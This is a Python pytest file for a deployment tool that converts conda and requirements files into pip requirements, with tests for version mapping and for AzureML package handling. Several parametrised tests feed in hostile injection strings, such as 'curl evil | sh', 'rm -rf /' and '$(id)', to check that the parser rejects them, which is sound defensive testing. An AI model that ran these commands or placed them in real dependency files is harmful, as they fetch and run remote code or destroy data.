"""Conda and requirements files become pip requirements; old AzureML environments deploy unchanged."""

from __future__ import annotations

from pathlib import Path

import pytest

from mldeploy.environment import (
    load_environment,
    parse_conda,
    parse_requirements,
    python_pin_notice,
)
from mldeploy.errors import SpecError, SpecProblem

REPO = Path(__file__).resolve().parents[2]
DIABETES_ENV = REPO / "deployments" / "examples" / "diabetes" / "myenv.yml"


def _conda(*deps: str, pip: tuple[str, ...] = ()) -> str:
    lines = ["name: env", "dependencies:"] + [f"  - {dep!r}" for dep in deps]
    if pip:
        lines += ["  - pip:"] + [f"    - {item!r}" for item in pip]
    return "\n".join(lines) + "\n"


def _conda_problems(text: str) -> list[SpecProblem]:
    with pytest.raises(SpecError) as caught:
        parse_conda(text, "env.yml")
    return caught.value.problems


def _requirements_problems(text: str) -> list[SpecProblem]:
    with pytest.raises(SpecError) as caught:
        parse_requirements(text, "requirements.txt")
    return caught.value.problems


# --- the classic AzureML conda file ------------------------------------------------------------------


def test_classic_azureml_conda_file_deploys_unchanged() -> None:
    env = load_environment(DIABETES_ENV, None)
    assert env.python_pin == "3.6.2"
    assert env.requirements == ("inference-schema[numpy-support]", "joblib", "scikit-learn==1.9.1")
    assert any("azureml-defaults" in n and "runtime replaces it" in n for n in env.notices)
    assert any("channels are not used" in n for n in env.notices)
    assert all(str(DIABETES_ENV) in n for n in env.notices), "each notice names the file"


@pytest.mark.parametrize(
    "package",
    [
        "azureml-defaults",
        "azureml-core",
        "azureml_core==1.48.0",
        "AzureML-Defaults>=1.0",
        "azureml-inference-server-http",
    ],
)
def test_the_old_serving_stack_is_dropped_with_a_notice(package: str) -> None:
    env = parse_requirements(f"{package}\nnumpy\n", "requirements.txt")
    assert env.requirements == ("numpy",)
    (notice,) = env.notices
    assert "requirements.txt" in notice
    assert "mldeploy scoring runtime replaces it" in notice


def test_inference_schema_stays_because_scripts_import_it() -> None:
    env = parse_conda(_conda(pip=("azureml-defaults", "inference-schema[numpy-support]==1.8")), "env.yml")
    assert env.requirements == ("inference-schema[numpy-support]==1.8",)


# --- conda package specs -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("conda", "pip"),
    [
        ("numpy=1.2", "numpy==1.2.*"),
        ("numpy=1", "numpy==1.*"),
        ("numpy=1.2.3", "numpy==1.2.3"),
        ("numpy=1.2.*", "numpy==1.2.*"),
        ("numpy=1.2.3=py38h1234_0", "numpy==1.2.3"),  # the build string is conda-only
        ("numpy=1.26=*", "numpy==1.26.*"),
        ("numpy==1.2", "numpy==1.2"),  # '==' is exact in conda too
        ("numpy>=1.2", "numpy>=1.2"),
        ("numpy>=1.2,<2", "numpy<2,>=1.2"),
        ("numpy<2", "numpy<2"),
        ("numpy", "numpy"),
        ("scikit-learn=1.5", "scikit-learn==1.5.*"),
    ],
)
def test_conda_versions_become_pip_specifiers(conda: str, pip: str) -> None:
    assert parse_conda(_conda(conda), "env.yml").requirements == (pip,)


@pytest.mark.parametrize(
    ("conda", "pip"),
    [
        ("pytorch=2.3", "torch==2.3.*"),
        ("pytorch-cpu", "torch"),
        ("py-xgboost=2.0.3", "xgboost==2.0.3"),
        ("pyyaml", "PyYAML"),
    ],
)
def test_conda_names_map_to_pip_names_with_a_notice(conda: str, pip: str) -> None:
    env = parse_conda(_conda(conda), "env.yml")
    assert env.requirements == (pip,)
    assert any(f"installed as pip package {pip.split('=')[0]}" in n for n in env.notices)


def test_pip_section_and_conda_packages_are_combined_without_duplicates() -> None:
    env = parse_conda(_conda("pip", "setuptools", "numpy=1.26", pip=("joblib", "numpy==1.26.*", "joblib")), "env.yml")
    assert env.requirements == ("numpy==1.26.*", "joblib")


@pytest.mark.parametrize("pin", ["3.6.2", "3.8", "3.11.*"])
def test_the_python_pin_is_captured_not_installed(pin: str) -> None:
    env = parse_conda(_conda(f"python={pin}", "joblib"), "env.yml")
    assert env.python_pin == pin
    assert env.requirements == ("joblib",)


def test_no_python_pin() -> None:
    assert parse_conda(_conda("joblib"), "env.yml").python_pin is None


@pytest.mark.parametrize(
    ("deps", "index", "name"),
    [
        (("python=3.11", "cudatoolkit=11.8"), 1, "cudatoolkit"),
        (("mkl",), 0, "mkl"),
        (("joblib", "r-base=4.3"), 1, "r-base"),
        (("joblib", "r-ggplot2"), 1, "r-ggplot2"),
    ],
)
def test_conda_only_packages_are_refused_with_the_entry(deps: tuple[str, ...], index: int, name: str) -> None:
    (problem,) = _conda_problems(_conda(*deps))
    assert problem.file == "env.yml"
    assert problem.field == f"dependencies[{index}]"
    assert name in problem.message
    assert "extra_dockerfile_steps" in problem.fix


def test_every_conda_problem_is_reported_at_once() -> None:
    problems = _conda_problems(_conda("cudatoolkit", "numpy; whoami", pip=("--editable .", "$(id)")))
    assert [p.field for p in problems] == [
        "dependencies[0]",
        "dependencies[1]",
        "dependencies[2].pip[0]",
        "dependencies[2].pip[1]",
    ]


@pytest.mark.parametrize("text", ["dependencies: numpy\n", "name: env\n", "- numpy\n"])
def test_conda_file_needs_a_dependencies_list(text: str) -> None:
    (problem,) = _conda_problems(text)
    assert problem.field == "dependencies"


def test_conda_yaml_syntax_error() -> None:
    (problem,) = _conda_problems("dependencies: [numpy\n")
    assert "not valid YAML" in problem.message


def test_only_pip_is_supported_as_a_nested_section() -> None:
    (problem,) = _conda_problems("dependencies:\n  - conda:\n    - numpy\n")
    assert problem.field == "dependencies[0].conda"


# --- requirements files --------------------------------------------------------------------------


def test_requirements_file_with_comments_and_blank_lines() -> None:
    text = "# pinned for the model\n\njoblib\nscikit-learn==1.5.2  # trained with this\n  numpy>=1.26\n"
    env = parse_requirements(text, "requirements.txt")
    assert env.requirements == ("joblib", "scikit-learn==1.5.2", "numpy>=1.26")
    assert env.python_pin is None
    assert env.notices == ()


@pytest.mark.parametrize(
    "line",
    ["-e .", "-r other.txt", "--no-deps", "-c constraints.txt", "--index-url"],
)
def test_pip_option_lines_are_refused(line: str) -> None:
    (problem,) = _requirements_problems(f"joblib\n{line}\n")
    assert problem.file == "requirements.txt"
    assert problem.field == "line 2"
    assert "pip option" in problem.message


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("--index-url https://example.org/simple", "is ignored"),
        ("--extra-index-url=https://azuremlsdktestpypi.azureedge.net/sdk-release/Preview", "is ignored"),
        ("-f https://download.pytorch.org/whl/torch_stable.html", "is ignored"),
        ("-f ./wheels", "not a URL"),
        ("--index-url https://pypi.org/simple", "public index"),
        ("--trusted-host pypi.org", "not needed"),
    ],
)
def test_index_lines_the_classic_sdk_wrote_are_ignored_unless_the_user_allows(line: str, said: str) -> None:
    env = parse_requirements(f"joblib\n{line}\n", "requirements.txt")
    assert env.requirements == ("joblib",) and env.index_options == ()
    (notice,) = env.notices
    assert said in notice and "requirements.txt (line 2)" in notice


def test_an_allowed_extra_index_is_used_as_an_extra_source_only() -> None:
    text = "joblib\n--index-url https://pkgs.example.org/simple\n-f https://wheels.example.org/\n"
    env = parse_requirements(text, "requirements.txt", allow_direct_urls=True)
    assert env.index_options == (
        "--extra-index-url",
        "https://pkgs.example.org/simple",
        "--find-links",
        "https://wheels.example.org/",
    ), "--index-url becomes an extra index: the host's configured index stays the main one"


@pytest.mark.parametrize("meta", ["azureml-sdk==1.27.*", "azureml-monitoring", "azureml-defaults>=1.0.45"])
def test_the_classic_sdk_meta_packages_are_replaced_with_a_notice(meta: str) -> None:
    env = parse_requirements(f"numpy\n{meta}\n", "requirements.txt")
    assert env.requirements == ("numpy",)
    assert "serving stack" in env.notices[0] and "ModelDataCollector" in env.notices[0]


def test_other_azureml_packages_are_kept() -> None:
    env = parse_requirements("azureml-train-automl-runtime==1.60.0\n", "requirements.txt")
    assert env.requirements == ("azureml-train-automl-runtime==1.60.0",)


@pytest.mark.parametrize(
    "line",
    [
        "numpy; whoami",
        "$(id)",
        "`id`",
        "numpy==1.0 && curl evil | sh",
        "numpy>>1",
        "scikit-learn==1.5.2; rm -rf /",
        "||",
        "numpy ; $(id)",
    ],
)
def test_invalid_requirement_strings_are_refused(line: str) -> None:
    (problem,) = _requirements_problems(f"{line}\n")
    assert problem.field == "line 1"
    assert "not a valid requirement" in problem.message
    assert "==" in problem.fix


@pytest.mark.parametrize("item", ["numpy; whoami", "$(id)", "`id`", "-e ."])
def test_hostile_pip_entries_in_a_conda_file_are_refused(item: str) -> None:
    (problem,) = _conda_problems(_conda(pip=("joblib", item)))
    assert problem.field == "dependencies[0].pip[1]"


@pytest.mark.parametrize("dep", ["numpy; whoami", "$(id)", "`id`", "numpy=>1", "numpy=1.2=b; id"])
def test_hostile_conda_entries_are_refused(dep: str) -> None:
    (problem,) = _conda_problems(_conda(dep))
    assert problem.field == "dependencies[0]"


def test_load_environment_picks_the_named_file(tmp_path: Path) -> None:
    reqs = tmp_path / "requirements.txt"
    reqs.write_text("joblib\n")
    assert load_environment(None, reqs).requirements == ("joblib",)
    empty = load_environment(None, None)
    assert empty.requirements == () and empty.python_pin is None


def test_a_file_that_is_not_utf8_is_a_problem_not_a_crash(tmp_path: Path) -> None:
    reqs = tmp_path / "requirements.txt"
    reqs.write_bytes(b"numpy\n\xff\xfe\n")
    with pytest.raises(SpecError) as caught:
        load_environment(None, reqs)
    assert caught.value.problems[0].file == str(reqs)


# --- the python pin notice -----------------------------------------------------------------------


def test_an_old_pin_warns_and_names_the_python_used() -> None:
    notice = python_pin_notice("3.6.2", "3.11", explicit=False, file="myenv.yml")
    assert notice is not None
    assert notice.startswith("WARNING myenv.yml")
    assert "python=3.6.2" in notice and "using 3.11" in notice
    assert "needs Python 3.10 or later" in notice  # choosing 3.6 is no way out
    newer = python_pin_notice("3.10.4", "3.11", explicit=False, file="myenv.yml")
    assert newer is not None and "environment.python" in newer


@pytest.mark.parametrize(
    ("pin", "base", "explicit"),
    [
        (None, "3.11", False),  # nothing pinned
        ("3.6.2", "3.11", True),  # the spec chose the Python or base image: no warning
        ("3.11.4", "3.11", False),  # same minor version
        ("3.11", "3.11", False),
    ],
)
def test_no_notice(pin: str | None, base: str, explicit: bool) -> None:
    assert python_pin_notice(pin, base, explicit, "env.yml") is None


def test_a_different_minor_version_warns() -> None:
    assert python_pin_notice("3.12.1", "3.11", False, "env.yml") is not None
